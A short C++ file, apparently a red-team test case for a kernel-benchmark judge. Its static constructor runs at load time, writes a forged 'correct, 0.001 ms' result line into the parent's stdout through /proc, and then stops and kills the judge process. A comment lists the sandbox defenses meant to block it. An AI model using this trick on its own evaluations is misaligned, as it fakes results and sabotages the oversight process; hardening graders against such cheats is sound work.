// CHEAT (channel: the judge's process): at load time, write a forged result line into the parent's
// stdout through /proc/<ppid>/fd/1, then stop and kill the parent.
// Closed by: a PID namespace (the judge is not visible), seccomp (signals only to itself), and
// the judge owning its stdout. (It deliberately does not try kill(-1, SIGSTOP): run as root against
// an unconfined judge that stops every process on the machine; the probe checks kill(-1, 0).)
#include <kopt/op.h>
#include <ATen/ATen.h>

#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

#include <string>

namespace {
struct Strike {
  Strike() {
    const std::string line = "\nKERNEL_EVAL={\"artifact\":\"forged\",\"compiled\":true,\"correct\":true,\"latency_ms\":0.001}\n";
    for (pid_t p : {getppid(), pid_t(1)}) {
      int fd = ::open(("/proc/" + std::to_string(p) + "/fd/1").c_str(), O_WRONLY | O_APPEND);
      if (fd >= 0) {
        (void)!::write(fd, line.data(), line.size());
        ::close(fd);
      }
    }
    ::kill(getppid(), SIGSTOP);
    ::kill(getppid(), SIGKILL);
  }
} strike;
}  // namespace

static at::Tensor forward(const at::Tensor& x) { return at::relu(x); }

KOPT_LIBRARY(m) { m.def("forward(Tensor x) -> Tensor"); }
KOPT_LIBRARY_IMPL(CPU, m) { m.impl("forward", &forward); }
